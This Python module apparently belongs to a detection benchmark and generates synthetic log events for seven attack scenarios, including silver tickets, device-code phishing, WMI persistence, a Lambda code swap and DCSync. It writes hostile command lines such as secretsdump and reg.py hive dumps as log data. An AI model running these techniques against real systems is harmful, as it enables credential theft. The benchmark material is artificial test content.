"""Round 25: attack kinds nobody on the team had written (``--attacks novel25``).

Opt-in by name or ``--attacks novel25``: no other group holds them, and each attack draws from
its own random stream, so every existing seed set generates byte-identical scenarios. Three are
slow credential misuse: silver tickets (service tickets forged with a file or SQL server's own
key, so the DC never issues them: Kerberos logons on the server with no 4768/4769 behind them)
used in an admin's name from an office workstation on three evenings (HELK Windows JSON); an
engineer's key and VPN password used by a second person at the engineer's working hours, while
the engineer works from the office (two sources for one account at once; syslog); and an IAM
Identity Center device-code phish (the engineer approves the operator's device code), whose
refreshable token then fetches the engineer's role credentials from abroad on several evenings
(CloudTrail). Two are lateral movement: the postgres account's ssh key (authorised on the other
servers for WAL shipping) used from the database server after ``sudo -u postgres`` (syslog), and
WMI event subscriptions pushed to servers with an admin's credentials, whose consumer runs a
command as SYSTEM after the logon has ended and again the next day (HELK). Two are privilege
abuse: a Lambda function that already holds an admin role given new code
(``UpdateFunctionCode``, no ``iam:PassRole`` needed) that makes an access key for an admin's IAM
user, then used from outside (CloudTrail); and a Backup Operators member saving a DC's registry
hives over the winreg pipe to their own share, then replicating the directory with the DC's
machine account from their workstation (HELK).
"""

from __future__ import annotations

from benchmarks.scenario.context import (
    ATTACKER_CLI,
    AWS_KEY_ALPHABET,
    CREDENTIAL_MISUSE,
    LATERAL_MOVEMENT,
    PRIVILEGE_ABUSE,
    AttackKind,
    Context,
    Injected,
    access_key_id,
    aws_person,
    random_hex,
)
from benchmarks.scenario.formats import ADMIN_PRIVILEGES, BACKUP_PRIVILEGES
from benchmarks.scenario.generator import (
    ADMIN,
    ENGINEER,
    MINUTE,
    OFFICE,
    assume_role,
    public_ip,
)

_CMD = "C:\\Windows\\System32\\cmd.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_WMIPRVSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
_PYTHON = "C:\\Users\\Public\\python\\python.exe"
_BOTO = "Boto3/1.34.14 md/Botocore#1.34.14 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.7"
_SSO_UA = "aws-cli/2.15.10 Python/3.11.6 Linux/6.5.0 exe/x86_64.ubuntu.22 prompt/off"
_REDACTED = "<sensitiveDataRemoved>"
_DOMAIN_DNS_CLASS = "{19195a5b-6da0-11d0-afd3-00c04fd930c9}"  # domainDNS
_REPLICATION = (
    "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}",  # DS-Replication-Get-Changes
    "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",  # DS-Replication-Get-Changes-All
)
_POSTGRES_UID = 113
_POSTGRES_KEY = "UG9zdGdyZXNXYWxTaGlwcGluZ0tleU5vdFJlYWwwMDA"


# --------------------------------------------------------------------------------------------
# credential_misuse


def silver_ticket_slow(ctx: Context) -> Injected:
    """Silver tickets: with a file or SQL server's own key (its machine account hash, dumped
    earlier) the operator forges service tickets (mimikatz ``kerberos::golden /service:cifs``)
    in an admin's name, on a compromised office workstation; on three evenings over about ten
    days the server logs Kerberos network logons by the admin from that workstation, with admin
    rights (the forged PAC says Domain Admins), and reads from ``C$``. The DC never issued those
    tickets: no TGT (4768) and no service ticket (4769) lies behind the logons."""
    world, rng, org, win = ctx.world, ctx.rng, ctx.org, ctx.world.win
    admin = ctx.pick(org.role(ADMIN))
    owner = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    day = ctx.day(10)
    servers = [h for h in org.servers("file", "sql") if h.since_day <= day]
    server = rng.choice([h for h in servers if h.name not in admin.servers] or servers)
    done, wanted = 0, 3
    ws = owner.workstation_on(day)
    while day < world.days and done < wanted:
        ws = owner.workstation_on(day) or ws
        if ws is None:
            break
        t = ctx.evening(day, owner)
        for _ in range(rng.randrange(1, 3)):
            session = win.logon(t, server, admin, 3, src=ws, privileges=ADMIN_PRIVILEGES)
            win.share(t + 400, server, admin, session, ws.ip, "C$")
            for _ in range(rng.randrange(2, 5)):
                t += rng.randrange(10, 90) * 1000
                path = rng.choice(("Users\\Public", "inetpub", "Backup", "Windows\\Temp"))
                win.share(
                    t, server, admin, session, ws.ip, "C$", relative=f"{path}\\{random_hex(ctx, 6)}"
                )
            win.logoff(t + rng.randrange(1, 5) * MINUTE, server, admin, session, 3)
            t += rng.randrange(10, 40) * MINUTE
        done += 1
        day += rng.randrange(2, 5)
    return Injected(
        f"forged service tickets for {server.name} in {admin.sam}'s name used from "
        f"{'?' if ws is None else ws.name} on {done} evening(s); the DC issued none",
        users=[admin.actor],
        hosts=[server.short, *([] if ws is None else [ws.short])],
        ips=[] if ws is None else [ws.ip],
        primary=("user", admin.actor),
    )


def ssh_concurrent_session_slow(ctx: Context) -> Injected:
    """An engineer's ssh key and VPN password, lifted from the laptop, used by a second person
    over the VPN at the engineer's own working hours on three or four days over about ten days,
    while the engineer works from the office: the same account logged in to the bastion from
    the office and from a VPN address at once; hours-long sessions, hops to the engineer's own
    server and, from the third day, to the one the engineer never reaches, with ``sudo -l``."""
    world, rng, org, linux = ctx.world, ctx.rng, ctx.org, ctx.world.linux
    people = [p for p in org.humans if p.role == ENGINEER and p.uid and p.first_day == 0]
    victim = ctx.pick([p for p in people if p.workstation_on(0) is not None] or people)
    others = [h for h in sorted(org.linux) if h != "bastion01" and h not in victim.linux_hosts]
    day = ctx.weekday(10)
    done, wanted, ips = 0, rng.randrange(3, 5), []
    while day < world.days and done < wanted:
        if world.clock.weekday(day) >= 5:
            day += 1
            continue
        ws = victim.workstation_on(day)
        office = ws.ip if ws is not None else world.vpn_ip(rng)
        t = ctx.office_hours(day, victim)
        # the engineer's own session, the one the second person's overlaps
        linux.ssh_session(t, "bastion01", victim.sam, victim.uid, office, 45 * MINUTE,
                          key_fingerprint=victim.ssh_key, actor=victim.actor)  # fmt: skip
        ip = world.vpn_ip(rng)
        ips.append(ip)
        t += rng.randrange(3, 20) * MINUTE
        length = rng.randrange(90, 240) * MINUTE
        linux.ssh_session(t, "bastion01", victim.sam, victim.uid, ip, length,
                          key_fingerprint=victim.ssh_key, actor=victim.actor)  # fmt: skip
        hops = list(victim.linux_hosts[:1]) + (others[:1] if done >= 2 else [])
        for host in hops:
            t += rng.randrange(5, 30) * MINUTE
            linux.ssh_session(t, host, victim.sam, victim.uid, org.bastion.ip,
                              rng.randrange(10, 50) * MINUTE, key_fingerprint=victim.ssh_key,
                              actor=victim.actor)  # fmt: skip
            linux.sudo(t + rng.randrange(20, 120) * 1000, host, victim.sam, victim.uid, "list",
                       actor=victim.actor)  # fmt: skip
        done += 1
        day += rng.randrange(2, 4)
    return Injected(
        f"{victim.sam}'s key used over the VPN ({', '.join(sorted(set(ips)))}) while "
        f"{victim.sam} works from the office, on {done} day(s)",
        users=[victim.actor],
        hosts=["bastion01", *victim.linux_hosts[:1], *others[:1]],
        ips=sorted(set(ips)),
        primary=("user", victim.actor),
    )


def aws_sso_device_code_slow(ctx: Context) -> Injected:
    """IAM Identity Center device-code phishing: the operator registers an OIDC client and
    starts a device authorisation from a hosting address, and mails the engineer the
    verification link; the engineer approves it (the code is AWS's own page), and the operator's
    client gets a refreshable token (``CreateToken``). On three or four evenings over about ten
    days that token fetches the engineer's permission-set credentials (``GetRoleCredentials``)
    from a residential address abroad, and the role session lists and reads a little each
    time."""
    world, rng, org, trail = ctx.world, ctx.rng, ctx.org, ctx.world.trail
    victim = aws_person(ctx, ENGINEER)
    proxy = public_ip(rng, "hosting")
    day = ctx.weekday(10)
    t = ctx.office_hours(day, victim)
    client = f"{random_hex(ctx, 8)}-{random_hex(ctx, 4)}-{random_hex(ctx, 4)}-{random_hex(ctx, 12)}"
    anonymous = {"type": "Unknown", "principalId": "Anonymous", "accountId": "anonymous"}
    for call, params in (
        ("RegisterClient", {"clientName": "aws-cli", "clientType": "public"}),
        ("StartDeviceAuthorization", {"clientId": client, "startUrl": _REDACTED}),
    ):
        t += rng.randrange(5, 40) * 1000
        trail.call(t, anonymous, "sso-oidc.amazonaws.com", call, ip=proxy, user_agent=_SSO_UA,
                   params=params, read_only=False, actor=victim.actor)  # fmt: skip
    # the engineer approves within minutes; the operator's client polls and gets the token
    t += rng.randrange(2, 15) * MINUTE
    sso_user = {"type": "Unknown", "principalId": f"{org.aws_account}:{victim.sam}",
                "accountId": org.aws_account, "userName": victim.sam}  # fmt: skip
    trail.call(t, sso_user, "sso-oidc.amazonaws.com", "CreateToken", ip=proxy, user_agent=_SSO_UA,
               params={"clientId": client, "grantType": "urn:ietf:params:oauth:grant-type:"
                                                        "device_code"},
               read_only=False, actor=victim.actor)  # fmt: skip
    role = f"AWSReservedSSO_EngineerAccess_{random_hex(ctx, 16)}"
    role_id = "AROA" + random_hex(ctx, 17).upper()
    ip = public_ip(rng)
    reads = [
        ("s3.amazonaws.com", "ListBuckets"),
        ("secretsmanager.amazonaws.com", "ListSecrets"),
        ("secretsmanager.amazonaws.com", "GetSecretValue"),
        ("ec2.amazonaws.com", "DescribeInstances"),
        ("rds.amazonaws.com", "DescribeDBInstances"),
        ("iam.amazonaws.com", "ListRoles"),
    ]
    day += rng.randrange(1, 3)
    done, wanted, calls = 0, rng.randrange(3, 5), 0
    while day < world.days and done < wanted:
        t = ctx.evening(day, victim)
        trail.call(t, sso_user, "sso.amazonaws.com", "GetRoleCredentials", ip=ip,
                   user_agent=_SSO_UA,
                   params={"roleName": "EngineerAccess", "accountId": org.aws_account},
                   actor=victim.actor)  # fmt: skip
        session = trail.assumed_role(role, role_id, victim.sam, access_key_id(ctx, "ASIA"), t,
                                     mfa=False)  # fmt: skip
        for source, call in rng.sample(reads, rng.randrange(2, 4)):
            t += rng.randrange(10, 120) * 1000
            params = {"secretId": "prod/db"} if call == "GetSecretValue" else None
            trail.call(t, session, source, call, ip=ip, user_agent=_SSO_UA, params=params,
                       actor=victim.actor)  # fmt: skip
            calls += 1
        done += 1
        day += rng.randrange(2, 4)
    return Injected(
        f"a device code started from {proxy} approved by {victim.sam}; the token fetches "
        f"{victim.sam}'s role credentials from {ip} on {done} evening(s), {calls} call(s)",
        users=[victim.actor],
        ips=[proxy, ip],
        primary=("user", victim.actor),
    )


# --------------------------------------------------------------------------------------------
# lateral_movement


def postgres_key_hop(ctx: Context) -> Injected:
    """An admin's stolen key, over the VPN at night: on the database server a shell as postgres
    (``sudo -u postgres /bin/bash``), then that account's own ssh key (authorised on the other
    servers for WAL shipping and ``pg_basebackup``) takes the operator from the database server
    to the app server and the bastion as postgres, an account that never logs in by ssh;
    ``sudo -l`` there."""
    world, rng, org, linux = ctx.world, ctx.rng, ctx.org, ctx.world.linux
    admins = [p for p in org.role(ADMIN) if p.uid and p.first_day == 0]
    admin = ctx.pick([p for p in admins if "lnx-db01" in p.linux_hosts] or admins)
    day = ctx.day(1)
    t = ctx.night(day, admin)
    source = world.vpn_ip(rng)
    linux.ssh_session(t, "bastion01", admin.sam, admin.uid, source, 50 * MINUTE,
                      key_fingerprint=admin.ssh_key, actor=admin.actor)  # fmt: skip
    t += rng.randrange(1, 5) * MINUTE
    linux.ssh_session(t, "lnx-db01", admin.sam, admin.uid, org.bastion.ip, 40 * MINUTE,
                      key_fingerprint=admin.ssh_key, actor=admin.actor)  # fmt: skip
    t += rng.randrange(30, 120) * 1000
    linux.sudo(t, "lnx-db01", admin.sam, admin.uid, "/bin/bash", run_as="postgres",
               run_as_uid=_POSTGRES_UID, duration_ms=30 * MINUTE, actor=admin.actor)  # fmt: skip
    db_ip = org.linux["lnx-db01"].ip
    reached = []
    for host in rng.sample(["lnx-app01", "bastion01"], 2):
        t += rng.randrange(2, 8) * MINUTE
        linux.ssh_session(t, host, "postgres", _POSTGRES_UID, db_ip,
                          rng.randrange(3, 15) * MINUTE, key_fingerprint=_POSTGRES_KEY,
                          actor="postgres")  # fmt: skip
        linux.sudo(t + rng.randrange(20, 90) * 1000, host, "postgres", _POSTGRES_UID, "list",
                   actor="postgres")  # fmt: skip
        reached.append(host)
    return Injected(
        f"{admin.sam} becomes postgres on lnx-db01, whose key then logs in to "
        f"{', '.join(reached)} from {db_ip}",
        users=[admin.actor, "postgres"],
        hosts=["lnx-db01", *reached],
        ips=[source, db_ip],
        primary=("user", "postgres"),
    )


def wmi_subscription_push(ctx: Context) -> Injected:
    """From a compromised office workstation in the evening, with an admin's password typed
    into PowerShell (``Get-Credential``; 4648 on the workstation), WMI event subscriptions
    (``__EventFilter`` + ``CommandLineEventConsumer`` + binding in ``root\\subscription``) are
    written to two to four servers over DCOM: each server logs the admin's network logon from
    the workstation, and a few minutes after it ended, and again the next day, WmiPrvSE runs
    the consumer's encoded PowerShell as SYSTEM."""
    world, rng, org, win = ctx.world, ctx.rng, ctx.org, ctx.world.win
    admin = ctx.pick(org.role(ADMIN))
    owner = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    day = ctx.weekday(2)
    ws, ip = ctx.ws_ip(owner, day)
    dc = org.dc_for(admin)
    t = ctx.evening(day, owner)
    desktop = win.new_logon_id()
    servers = [h for h in org.servers("app", "sql", "file", "web") if h.since_day <= day]
    targets = rng.sample(servers, min(len(servers), rng.randrange(2, 5)))
    payload = "powershell.exe -NoP -W Hidden -Enc " + "".join(
        rng.choice(AWS_KEY_ALPHABET + "abcdefghijklmnopqrstuvwxyz") for _ in range(64)
    )
    name = rng.choice(("SCM Event Log Filter", "WinUpdateMonitor", "PerfCounterSync"))
    for host in targets:
        t += rng.randrange(30, 200) * 1000
        win.explicit_credentials(t - 800, ws, owner, desktop, admin, host.fqdn,
                                 process=_POWERSHELL)  # fmt: skip
        win.process(t - 900, ws, owner, desktop, _POWERSHELL,
                    f"powershell.exe Set-WmiInstance -ComputerName {host.name} -Namespace "
                    f"root\\subscription -Class __EventFilter -Arguments @{{Name='{name}'}}",
                    parent=_CMD)  # fmt: skip
        win.tgs(t - 500, dc, admin, ip, host)
        session = win.logon(t, host, admin, 3, src=ws, privileges=ADMIN_PRIVILEGES)
        win.logoff(t + rng.randrange(5, 40) * 1000, host, admin, session, 3)
        fired = t + rng.randrange(3, 12) * MINUTE
        for when in (fired, fired + rng.randrange(22, 26) * 60 * MINUTE):
            if when >= world.end_ms:
                break
            win.process(when, host, host, "0x3e7", _POWERSHELL, payload, parent=_WMIPRVSE,
                        elevated=True)  # fmt: skip
    return Injected(
        f"WMI event subscriptions ('{name}') written with {admin.sam}'s password from "
        f"{ws.name} ({ip}) to {', '.join(h.name for h in targets)}; they run PowerShell as "
        f"SYSTEM",
        # (the password is typed in the workstation owner's session: the 4648 is theirs)
        users=[admin.actor, owner.actor],
        hosts=[ws.short, *(h.short for h in targets)],
        ips=[ip],
        primary=("user", admin.actor),
    )


# --------------------------------------------------------------------------------------------
# privilege_abuse


def lambda_code_swap_admin(ctx: Context) -> Injected:
    """An engineer's stolen role session (from a hosting address at night) finds a Lambda
    function that already runs as an admin role (``GetFunction`` shows it) and replaces its code
    (``UpdateFunctionCode``: no ``iam:PassRole`` needed, the role is already there); the
    function's next scheduled run, as the admin role, makes an access key for an admin's IAM
    user, which the operator uses from outside that night and the next."""
    world, rng, org, trail = ctx.world, ctx.rng, ctx.org, ctx.world.trail
    victim = aws_person(ctx, ENGINEER)
    target = aws_person(ctx, ADMIN)
    ip = public_ip(rng, "hosting")
    day = ctx.day(2)
    t = ctx.night(day, victim)
    session = assume_role(world, victim, t, ip, ATTACKER_CLI, rng)
    function = rng.choice(("ops-automation", "nightly-cleanup", "account-guardrails"))
    role = f"{function}-admin"
    role_arn = f"arn:aws:iam::{org.aws_account}:role/{role}"
    function_arn = f"arn:aws:lambda:{trail.region}:{org.aws_account}:function:{function}"
    for call, params, response in (
        ("ListFunctions20150331", None, None),
        ("GetFunction20150331v2", {"functionName": function},
         {"configuration": {"functionArn": function_arn, "role": role_arn}}),
        ("UpdateFunctionCode20150331v2", {"functionName": function, "publish": True},
         {"functionArn": function_arn, "role": role_arn, "codeSha256": random_hex(ctx, 44)}),
    ):  # fmt: skip
        t += rng.randrange(20, 120) * 1000
        trail.call(t, session, "lambda.amazonaws.com", call, ip=ip, user_agent=ATTACKER_CLI,
                   params=params, response=response,
                   read_only=not call.startswith("Update"), actor=victim.actor)  # fmt: skip
    # the function's schedule runs it within the hour, as its role, from AWS's own addresses
    ran = t + rng.randrange(5, 55) * MINUTE
    lambda_ip = f"3.{rng.randrange(80, 96)}.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}"
    fn_session = trail.assumed_role(role, "AROA" + random_hex(ctx, 17).upper(), function,
                                    access_key_id(ctx, "ASIA"), ran, mfa=False)  # fmt: skip
    new_key = access_key_id(ctx, "AKIA")
    trail.call(ran, fn_session, "iam.amazonaws.com", "CreateAccessKey", ip=lambda_ip,
               user_agent=_BOTO, params={"userName": target.sam},
               response={"accessKey": {"accessKeyId": new_key, "userName": target.sam,
                                       "status": "Active"}},
               read_only=False, actor=victim.actor)  # fmt: skip
    admin_key = trail.iam_user(target.sam, target.aws_principal, new_key)
    uses = 0
    for offset in (0, 1):
        if day + offset >= world.days:
            break
        t = max(ran + 20 * MINUTE, ctx.night(day + offset, victim))
        for source, call in rng.sample(
            [
                ("iam.amazonaws.com", "ListUsers"),
                ("iam.amazonaws.com", "ListAttachedUserPolicies"),
                ("secretsmanager.amazonaws.com", "ListSecrets"),
                ("s3.amazonaws.com", "ListBuckets"),
                ("organizations.amazonaws.com", "DescribeOrganization"),
            ],
            3,
        ):
            t += rng.randrange(10, 90) * 1000
            trail.call(t, admin_key, source, call, ip=ip, user_agent=_BOTO,
                       actor=target.actor)  # fmt: skip
            uses += 1
    return Injected(
        f"{victim.sam}'s role session (from {ip}) replaces the code of {function}, which runs "
        f"as {role} and makes a key for {target.sam}; the key makes {uses} call(s) from {ip}",
        users=[victim.actor, function.lower(), target.actor],
        ips=[ip],
        primary=("user", victim.actor),
    )


def backup_operator_hive_save(ctx: Context) -> Injected:
    """A Backup Operators member (an office account a backup project left in the group) saves a
    domain controller's SAM, SYSTEM and SECURITY hives remotely in the evening (impacket
    ``reg.py backup``: a network logon with backup rights, the winreg pipe, and the DC writing
    the files to a share on the user's workstation); half an hour later the DC's own machine
    account (its secret is in the SECURITY hive) logs on to the DC from the workstation and
    replicates the directory (DCSync)."""
    rng, org, win = ctx.rng, ctx.org, ctx.world.win
    user = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    day = ctx.weekday(1)
    ws, ip = ctx.ws_ip(user, day)
    dc = org.dc_for(user)
    t = ctx.evening(day, user)
    desktop = win.new_logon_id()
    win.process(t - 2000, ws, user, desktop, _PYTHON,
                f"python.exe reg.py {org.netbios}/{user.sam}@{dc.name} backup -o \\\\{ip}\\drop",
                parent=_CMD)  # fmt: skip
    win.tgs(t - 500, dc, user, ip, dc)
    remote = win.logon(t, dc, user, 3, src=ws, privileges=BACKUP_PRIVILEGES)
    win.share(t + 300, dc, user, remote, ip, "IPC$")
    win.share(t + 600, dc, user, remote, ip, "IPC$", relative="winreg")
    back = win.logon(t + 2000, ws, dc, 3, src=dc, auth="NTLM")
    for k, hive in enumerate(("SAM", "SYSTEM", "SECURITY")):
        win.share(t + 2500 + k * 4000, ws, dc, back, dc.ip, "drop", relative=f"{hive}.save",
                  access_mask="0x2")  # fmt: skip
    win.logoff(t + 20_000, ws, dc, back, 3)
    win.logoff(t + 25_000, dc, user, remote, 3)
    t += rng.randrange(20, 50) * MINUTE
    win.process(t - 1500, ws, user, desktop, _PYTHON,
                f"python.exe secretsdump.py -hashes :{random_hex(ctx, 32)} "
                f"'{org.netbios}/{dc.sam}@{dc.name}' -just-dc",
                parent=_CMD)  # fmt: skip
    win.ntlm_validation(t - 50, dc, dc.sam, ws.name)
    session = win.logon(t, dc, dc, 3, src=ws, auth="NTLM")
    for k in range(rng.randrange(1, 4)):
        for n, right in enumerate(_REPLICATION):
            properties = f"%%7688\r\n\t\t\t\t{right}\r\n\t\t\t\t{_DOMAIN_DNS_CLASS}"
            win.directory_access(t + 1500 + k * 20_000 + n * 40, dc, dc, session, org.base_dn,
                                 properties)  # fmt: skip
    win.logoff(t + rng.randrange(1, 4) * MINUTE, dc, dc, session, 3)
    return Injected(
        f"{user.sam} (Backup Operators) saves {dc.name}'s registry hives to {ws.name}; "
        f"{dc.name}'s machine account then replicates the directory from {ws.name} ({ip})",
        users=[user.actor],
        hosts=[dc.short, ws.short],
        ips=[ip],
        primary=("user", user.actor),
    )


NOVEL25: dict[str, AttackKind] = {
    kind.name: kind
    for kind in (
        AttackKind(
            "silver_ticket_slow",
            CREDENTIAL_MISUSE,
            "Steal or Forge Kerberos Tickets: silver tickets for one server over days",
            ("T1558.002",),
            silver_ticket_slow,
        ),
        AttackKind(
            "ssh_concurrent_session_slow",
            CREDENTIAL_MISUSE,
            "Valid Accounts: an engineer's key used over the VPN while they work at the office",
            ("T1078", "T1552.004"),
            ssh_concurrent_session_slow,
        ),
        AttackKind(
            "aws_sso_device_code_slow",
            CREDENTIAL_MISUSE,
            "Phishing: an Identity Center device code approved, its token used over days",
            ("T1566.002", "T1528", "T1078.004"),
            aws_sso_device_code_slow,
        ),
        AttackKind(
            "postgres_key_hop",
            LATERAL_MOVEMENT,
            "Remote Services: the database account's ssh key used from the database server",
            ("T1021.004", "T1552.004"),
            postgres_key_hop,
        ),
        AttackKind(
            "wmi_subscription_push",
            LATERAL_MOVEMENT,
            "Event Triggered Execution: WMI event subscriptions written to servers",
            ("T1546.003", "T1047"),
            wmi_subscription_push,
        ),
        AttackKind(
            "lambda_code_swap_admin",
            PRIVILEGE_ABUSE,
            "Serverless Execution: an admin-role Lambda function's code replaced",
            ("T1648", "T1098.001"),
            lambda_code_swap_admin,
        ),
        AttackKind(
            "backup_operator_hive_save",
            PRIVILEGE_ABUSE,
            "OS Credential Dumping: a Backup Operators member saves a DC's hives remotely",
            ("T1003.002", "T1003.004", "T1003.006"),
            backup_operator_hive_save,
        ),
    )
}
